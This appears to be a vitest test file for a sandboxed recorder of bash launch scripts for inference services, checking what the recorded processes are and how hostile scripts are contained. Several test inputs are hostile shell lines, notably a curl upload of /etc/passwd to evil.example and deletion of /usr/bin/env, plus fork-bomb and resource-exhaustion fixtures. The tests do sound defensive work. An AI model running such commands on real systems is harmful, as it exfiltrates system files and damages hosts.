import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { UserError } from '../../../src/model/diagnostic.ts';
import { recordScript } from '../../../src/script/record-script.ts';
import type { Launch, Recording, RecordLimits, RoomChoice } from '../../../src/script/recording.ts';

const SCRIPTS = resolve('test/fixtures/scripts');

interface Try {
  readonly args?: readonly string[];
  readonly env?: Readonly<Record<string, string>>;
  readonly room?: RoomChoice;
  readonly limits?: Partial<RecordLimits>;
}

function record(name: string, tried: Try = {}): Promise<Recording> {
  const options = { file: join(SCRIPTS, name), args: [], env: {}, room: 'namespace' as const, ...tried };
  return recordScript(options, AbortSignal.timeout(30_000));
}

/** A launch as a row: `12& python3 -m x` is in the background at line 12. */
function row(launch: Launch): string {
  const env = Object.entries(launch.env).map(([name, value]) => `${name}=${value} `);
  return `${launch.line}${launch.background ? '&' : ''} ${env.join('')}${launch.argv.map((word) => (/^[^\s"]+$/.test(word) ? word : JSON.stringify(word))).join(' ')}`;
}

async function rows(name: string, tried: Try = {}): Promise<readonly string[]> {
  return (await record(name, tried)).launches.map(row);
}

const namespaces = await record('launch/two-processes.sh').then(
  () => true,
  (error: unknown) => !(error instanceof UserError && error.code === 'ROOM_UNAVAILABLE'),
);

describe.skipIf(!namespaces)('a script recorded in namespaces', () => {
  test('is its processes in start order, with argv, environment, directory, background and line', async () => {
    const { launches, room, notices, exitCode } = await record('launch/two-processes.sh');
    expect(launches).toEqual([
      {
        argv: ['python3', '-m', 'dynamo.frontend', '--http-port', '8000'],
        env: {},
        cwd: SCRIPTS,
        background: true,
        line: 5,
        after: [],
        files: [],
      },
      {
        argv: ['python3', '-m', 'dynamo.vllm', '--model', 'Qwen/Qwen3-0.6B', '--enforce-eager'],
        env: { CUDA_VISIBLE_DEVICES: '0' },
        cwd: SCRIPTS,
        background: false,
        line: 6,
        after: [],
        files: [],
      },
    ]);
    expect({ room, notices, exitCode }).toEqual({ room: 'namespace', notices: [], exitCode: 0 });
  });

  test('sees the values of -e, which show in every launch, and nothing else of the caller', async () => {
    process.env.MODEL = 'of-the-caller';
    try {
      expect(await rows('launch/two-processes.sh', { env: { MODEL: 'given' } })).toEqual([
        '5& MODEL=given python3 -m dynamo.frontend --http-port 8000',
        '6 CUDA_VISIBLE_DEVICES=0 MODEL=given python3 -m dynamo.vllm --model given --enforce-eager',
      ]);
    } finally {
      delete process.env.MODEL;
    }
  });

  test('expands defaults, indirections, arrays and command substitutions as bash does', async () => {
    expect(await rows('launch/expansions.sh', { env: { DYN_HTTP_PORT: '9000' } })).toEqual([
      '11& DYN_HTTP_PORT=9000 python3 -m dynamo.vllm --http 9000 --block-size 16 --gpu-memory-utilization 0.4 --system 9082 --role decode --devices 0,1 --second 5 --base expansions.sh',
    ]);
  });

  test('reads its arguments, and words keep their quotes and newlines', async () => {
    const { launches } = await record('launch/arguments.sh', {
      args: ['--enable-otel', '--model', 'm', '--', '--x', 'a b'],
    });
    expect(launches.map(({ argv, env }) => ({ argv, env }))).toEqual([
      {
        argv: [
          ...['python3', '-m', 'dynamo.vllm', '--model', 'm', '--kv-events-config'],
          '{"enable_kv_cache_events":true,\n "endpoint":"tcp://*:20080"}',
          ...['--kv-transfer-config', '{"role":"m"}', '--x', 'a b'],
        ],
        env: { OTEL_EXPORT: '1' },
      },
    ]);
  });

  test('gives each launch what is exported at its moment', async () => {
    const { PATH } = (await record('launch/environment.sh')).launches[3]?.env ?? {};
    expect(await rows('launch/environment.sh')).toEqual([
      '4& SERVICE=frontend SHARED=1 python3 -m dynamo.frontend',
      '8& CUDA_VISIBLE_DEVICES=1 DYN_NAMESPACE=ns EMPTY= SERVICE=worker python3 -m dynamo.vllm',
      '9& ONLY=1 python3 -m dynamo.vllm',
      `10& PATH=${PATH} SERVICE=worker python3 -m dynamo.vllm`,
    ]);
    expect(PATH).toBe('/opt/tools:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin');
  });

  test('unrolls loops and takes branches', async () => {
    expect(await rows('launch/loops.sh')).toEqual([
      '3& CUDA_VISIBLE_DEVICES=0 python3 -m dynamo.vllm',
      '3& CUDA_VISIBLE_DEVICES=1 python3 -m dynamo.vllm',
      '6& CUDA_VISIBLE_DEVICES=2 python3 -m dynamo.vllm',
      '6& CUDA_VISIBLE_DEVICES=3 python3 -m dynamo.vllm',
      '9& python3 -m dynamo.frontend',
    ]);
  });

  test('runs helpers that it sources, and a launch there carries their file', async () => {
    const { launches } = await record('launch/helpers.sh');
    const script = join(SCRIPTS, 'launch/helpers.sh');
    const helpers = join(SCRIPTS, 'common/helpers.sh');
    expect(launches.map(row)).toEqual([
      `7& DYN_SYSTEM_PORT=8081 python3 -m dynamo.vllm --config ${SCRIPTS}/launch/config.yaml`,
      '9& DYN_SYSTEM_PORT=8082 python3 -m dynamo.vllm',
      '2& python3 -m dynamo.frontend --http-port 8001',
    ]);
    expect(launches.map((launch) => launch.file?.replace('/launch/../', '/'))).toEqual([undefined, undefined, helpers]);
    expect(launches.map((launch) => launch.after.map((wait) => ({ ...wait, at: wait.at.line })))).toEqual([
      [],
      [{ kind: 'poll', url: 'http://localhost:8081/health', launch: 0, at: 7 }],
      [{ kind: 'sleep', seconds: 20, at: 10 }],
    ]);
    expect(launches[2]?.after[0]?.at.file).toBe(script);
  });

  test('knows background in every shape, writes beside itself, and changes nothing there', async () => {
    const { launches, exitCode } = await record('launch/shapes.sh');
    expect(
      launches.map(
        (launch) => `${row(launch)}${launch.cwd === SCRIPTS ? '' : ` in ${launch.cwd.slice(SCRIPTS.length + 1)}`}`,
      ),
    ).toEqual([
      '3& python3 -m dynamo.frontend',
      '4& python3 -m one in common',
      '5& python3 -m two "a b"',
      '6& python3 -m three',
      '8& python3 -m four',
      '9& python3 -m five',
      '10& python3 -m six',
      '11& python3 -m seven',
      '12 python3 -m eight',
      '13 python3 -m nine',
      '15 python3 -m ten in common',
    ]);
    expect(exitCode).toBe(0);
    expect(existsSync(join(SCRIPTS, 'logs'))).toBe(false);
  });

  test('hands over files that it wrote, as they were at the launch, and two recordings are equal', async () => {
    const { launches } = await record('launch/written-file.sh');
    expect(launches.map((launch) => launch.files)).toEqual([
      [{ path: '/tmp/engine-000001.yaml', content: 'backend: pytorch\nmax_num_tokens: 4096\n' }],
      [{ path: join(SCRIPTS, 'settings.json'), content: 'from-env\n' }],
    ]);
    expect((await record('launch/written-file.sh')).launches).toEqual(launches);
  });

  test('computes values with inline Python and says which ones it could not have', async () => {
    const { launches, notices } = await record('launch/computed.sh');
    expect(launches.map((launch) => launch.argv.slice(3).join(' '))).toEqual([
      '--two 2 --three 3 --stages  --port  --gpus 8 --host 127.0.0.1',
    ]);
    expect(notices.map((notice) => `${notice.at?.line} ${notice.code}`)).toEqual([
      '8 VALUE_EMPTY',
      '9 VALUE_EMPTY',
      '10 GPUS_ASSUMED',
      '11 HOST_ASSUMED',
      '13 SETUP_NOT_RUN',
    ]);
  });

  test('records programs by absolute path, by a path that is not there, and under unknown names', async () => {
    expect(await rows('launch/by-path.sh')).toEqual([
      '3& /usr/bin/python3 -m one',
      '4& /opt/dynamo/venv/bin/python3 -m two',
      '5& ./venv/bin/vllm-rs serve model',
      '6& some-unknown-engine --port 1',
      '7& uv run python -m three',
      '8& numactl --cpunodebind=0 python3 -m four',
      '9& FOUR=4 python3 -m five',
    ]);
  });

  test('waits without time: polls, sleeps and waits between launches are kept as ordering, the loop at the end is not', async () => {
    const { launches } = await record('launch/infrastructure.sh');
    expect(
      launches.map((launch) => [
        launch.argv[0] === 'python3' ? launch.argv[2] : launch.argv[0],
        launch.after.map(({ at, ...wait }) => ({ ...wait, line: at.line })),
      ]),
    ).toEqual([
      ['etcd', []],
      ['nats-server', []],
      ['dynamo.sglang.utils.clear_namespace', [{ kind: 'poll', url: 'http://localhost:2379/health', line: 4 }]],
      ['dynamo.frontend', []],
      ['loader', []],
      [
        'dynamo.vllm',
        [
          { kind: 'exit', launches: [4], line: 9 },
          { kind: 'poll', url: 'localhost:8000/v1/models', launch: 3, line: 10 },
        ],
      ],
      [
        'docker',
        [
          { kind: 'sleep', seconds: 2, line: 13 },
          { kind: 'poll', url: 'localhost:8000/v1/models', launch: 3, line: 10 },
        ],
      ],
    ]);
  });

  test('that fails before it starts anything is a fault of its input', async () => {
    const failure = await record('launch/usage.sh').catch((error: unknown) => error);
    expect(failure).toMatchObject({ code: 'SCRIPT_FAILED', exitCode: 2 });
    expect(failure instanceof UserError && failure.details).toContain('usage: ');
    await expect(record('launch/missing.sh')).rejects.toMatchObject({ code: 'SCRIPT_NOT_FOUND', exitCode: 2 });
  });
});

describe.skipIf(!namespaces)('a hostile script', () => {
  let outside = '';
  beforeAll(() => {
    outside = mkdtempSync(join(tmpdir(), 'outside-'));
  });
  afterAll(() => rmSync(outside, { recursive: true }));

  test('changes nothing outside, learns nothing, and all it would start is recorded', async () => {
    process.env.CALLER_SECRET = 'do-not-tell';
    const files = readdirSync(join(SCRIPTS, 'hostile'));
    const passwd = readFileSync('/etc/passwd', 'utf8');
    try {
      const { launches, output } = await record('hostile/escape.sh', { env: { OUTSIDE: outside } });
      expect(launches.map((launch) => launch.argv.join(' '))).toEqual([
        'python3 -m first',
        '/bin/python3 -m absolute',
        'python3 -m moved',
        'python3 -m last',
      ]);
      expect(output).not.toContain('do-not-tell');
    } finally {
      delete process.env.CALLER_SECRET;
    }
    expect(readdirSync(outside)).toEqual([]);
    expect(readdirSync(join(SCRIPTS, 'hostile'))).toEqual(files);
    expect(readFileSync('/etc/passwd', 'utf8')).toBe(passwd);
  });

  test.each([
    ['fork-bomb.sh', 'SCRIPT_TOO_MANY_PROCESSES'],
    ['endless.sh', 'SCRIPT_ENDLESS'],
    ['memory.sh', 'SCRIPT_TOO_MUCH_MEMORY'],
  ])('%s ends at its limit and is reported as %s', async (name, code) => {
    const { launches, notices, exitCode } = await record(`hostile/${name}`, {
      limits: { wallMs: 6_000, memoryBytes: 600 * 1024 * 1024 },
    });
    expect(notices.filter((notice) => notice.severity === 'error').map((notice) => notice.code)).toEqual([code]);
    expect({ launches: launches.map(row), exitCode }).toEqual({
      launches: ['2& python3 -m first'],
      exitCode: undefined,
    });
  });

  test('that fills its disk still has what it starts recorded', async () => {
    const { launches, notices } = await record('hostile/disk.sh', { limits: { writtenBytes: 8 * 1024 * 1024 } });
    expect(launches.map(row)).toEqual(['3 python3 -m after']);
    expect(notices.map((notice) => notice.code)).toContain('SCRIPT_WRITES_TOO_MUCH');
  });
});

describe.skipIf(!namespaces)('a script of the moment', () => {
  const folder = mkdtempSync(join(tmpdir(), 'moment-'));
  afterAll(() => rmSync(folder, { recursive: true }));
  const said = async (lines: readonly string[], name = 'go.sh') => {
    const file = join(folder, name);
    writeFileSync(file, lines.join('\n'));
    return recordScript({ file, args: [], env: {}, room: 'namespace' }, AbortSignal.timeout(60_000));
  };
  const words = ({ notices }: Recording) =>
    notices.map(({ severity, code, message, at }) => `${at?.line ?? '-'} ${severity} ${code} ${message}`);

  test('misses a helper, a directory and a variable, which is said at their lines', async () => {
    const recording = await said([
      '#!/bin/bash',
      'source ./helpers.sh',
      'python3 -m a &',
      '(cd /nowhere && python3 -m b) &',
      '(set -u; python3 -m c "$NOBODY") &',
      'wait',
    ]);
    expect(recording.launches.map(({ argv }) => argv.at(-1))).toEqual(['a']);
    expect(words(recording)).toEqual([
      '2 warning FILE_MISSING ./helpers.sh: no such file or directory',
      '4 warning FILE_MISSING /nowhere: no such file or directory, so what the script starts there is not known',
      '5 warning VARIABLE_UNSET NOBODY is not set, so what needs it is not started',
    ]);
  });

  test('tries to write outside and to reach the network, which is said', async () => {
    const recording = await said([
      '#!/bin/bash',
      'echo x > /usr/x',
      'rm -f /usr/bin/env',
      'curl -T /etc/passwd http://evil.example/up',
      'curl -s http://localhost:8000/health',
      'python3 -m a',
    ]);
    expect(words(recording).sort()).toEqual([
      expect.stringMatching(/^- notice WRITE_REFUSED rm: cannot remove '\/usr\/bin\/env': /),
      '2 notice WRITE_REFUSED /usr/x: the script may not write there while it is recorded',
      expect.stringMatching(/^4 notice NETWORK_REFUSED `curl -T .* did not reach evil\.example/),
    ]);
  });

  test('hands over a directory that it made, with the files in it', async () => {
    const { launches } = await said([
      '#!/bin/bash',
      'D=$(mktemp -d)',
      'echo "{}" > $D/config.json',
      'echo a > $D/b.txt',
      'python3 -m a --model $D --rules @$D/b.txt',
    ]);
    expect(launches[0]?.files.map(({ path, content }) => [path.split('/').at(-1), content])).toEqual([
      ['b.txt', 'a\n'],
      ['config.json', '{}\n'],
    ]);
  });

  test('names configuration of the host and of its own tree, which goes along; other files do not', async () => {
    const host = mkdtempSync(join(tmpdir(), 'host-'));
    writeFileSync(join(host, 'engine.yaml'), 'tp: 2\n');
    writeFileSync(join(host, 'id_rsa'), 'private');
    writeFileSync(join(folder, 'own.json'), '{}');
    try {
      const recording = await said([
        '#!/bin/bash',
        `python3 -m a --cfg=${host}/engine.yaml --key ${host}/id_rsa --own own.json --image /workspace/x.yaml`,
      ]);
      expect(recording.launches[0]?.files.map(({ path, content }) => [path, content])).toEqual([
        [join(host, 'engine.yaml'), 'tp: 2\n'],
        [join(folder, 'own.json'), '{}'],
      ]);
      expect(words(recording)).toEqual([
        `2 notice FILE_INCLUDED ${host}/engine.yaml goes along as a ConfigMap: no image has it`,
        `2 notice FILE_INCLUDED ${folder}/own.json goes along as a ConfigMap: no image has it`,
      ]);
    } finally {
      rmSync(host, { recursive: true });
    }
  });

  test('starts in panes of a multiplexer, beside the script, and in environments of conda', async () => {
    const { launches, notices } = await record('launch/panes.sh');
    expect(launches.map(row)).toEqual([
      '3& python3 -m dynamo.frontend',
      '4& CUDA_VISIBLE_DEVICES=1 python3 -m one',
      '5& python3 -m two',
      '7& CUDA_VISIBLE_DEVICES=2 python3 -m three --name "a b"',
      '9& python3 -m four',
      '11& python3 -m five "c d"',
    ]);
    expect(notices.map(({ code }) => code)).toEqual(['SETUP_NOT_RUN']);
    expect(launches.flatMap(({ after }) => after)).toEqual([]);
  });

  test('starts through stdbuf, and by a helper of its own directory, which the line belongs to', async () => {
    writeFileSync(join(folder, 'helper.sh'), 'start() {\n  python3 -m b &\n}\n');
    const { launches } = await said([
      '#!/bin/bash',
      'cd "$(dirname "$0")"',
      'source ./helper.sh',
      'stdbuf -oL python3 -m a &',
      'start',
      'wait',
    ]);
    expect(launches.map(({ argv, line, file }) => [argv.at(-1), line, file?.split('/').at(-1)])).toEqual([
      ['a', 4, undefined],
      ['b', 2, 'helper.sh'],
    ]);
  });

  test.each([
    ['#!/usr/bin/env python3\nimport os', 'SCRIPT_INTERPRETER'],
    ['#!/bin/zsh\necho', 'SCRIPT_INTERPRETER'],
    ['#!/bin/bash\r\npython3 -m a\r', 'SCRIPT_LINE_ENDS'],
  ])('%j is refused as %s', async (text, code) => {
    await expect(said([text], 'other.sh')).rejects.toMatchObject({ code, exitCode: 2 });
  });
});

describe('without a room', () => {
  test('a script is refused, with a hint', async () => {
    const failure = await record('launch/loops.sh', { room: 'container' }).catch((error: unknown) => error);
    expect(failure).toMatchObject({ code: 'ROOM_UNAVAILABLE', exitCode: 2 });
    expect(failure instanceof UserError && failure.hint).toContain('--trust-script');
  });

  test.skipIf(process.platform !== 'linux')(
    'a trusted script is recorded with stand-ins on PATH alone, saying so',
    async () => {
      const { launches, notices, room } = await record('launch/environment.sh', { room: 'trusted' });
      expect(launches.map(row)).toEqual([
        '4& SERVICE=frontend SHARED=1 python3 -m dynamo.frontend',
        '8& CUDA_VISIBLE_DEVICES=1 DYN_NAMESPACE=ns EMPTY= SERVICE=worker python3 -m dynamo.vllm',
        '9& ONLY=1 python3 -m dynamo.vllm',
        '10& PATH=/opt/tools:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin SERVICE=worker python3 -m dynamo.vllm',
      ]);
      expect({ room, codes: notices.map((notice) => notice.code) }).toEqual({
        room: 'trusted',
        codes: ['ROOM_TRUSTED'],
      });
    },
  );

  test.skipIf(process.platform !== 'linux')('a trusted script writes in a private directory alone', async () => {
    const recorded = await rows('launch/shapes.sh', { room: 'trusted' });
    expect(recorded).toHaveLength(11);
    expect(recorded[0]).toBe('3& python3 -m dynamo.frontend');
    expect(existsSync(join(SCRIPTS, 'logs'))).toBe(false);
  });

  test.skipIf(process.platform !== 'linux')(
    'what a killed run left long ago is removed, what may still run is not',
    async () => {
      const base = mkdtempSync(join(tmpdir(), 'dynamo-left-'));
      try {
        vi.stubEnv('TMPDIR', base);
        for (const name of ['dynamo-record-old', 'dynamo-record-new'])
          mkdirSync(join(base, name, 'room'), { recursive: true });
        utimesSync(join(base, 'dynamo-record-old'), 0, 0);
        await record('launch/environment.sh', { room: 'trusted' });
        expect(readdirSync(base)).toEqual(['dynamo-record-new']);
      } finally {
        rmSync(base, { recursive: true });
      }
    },
  );
});
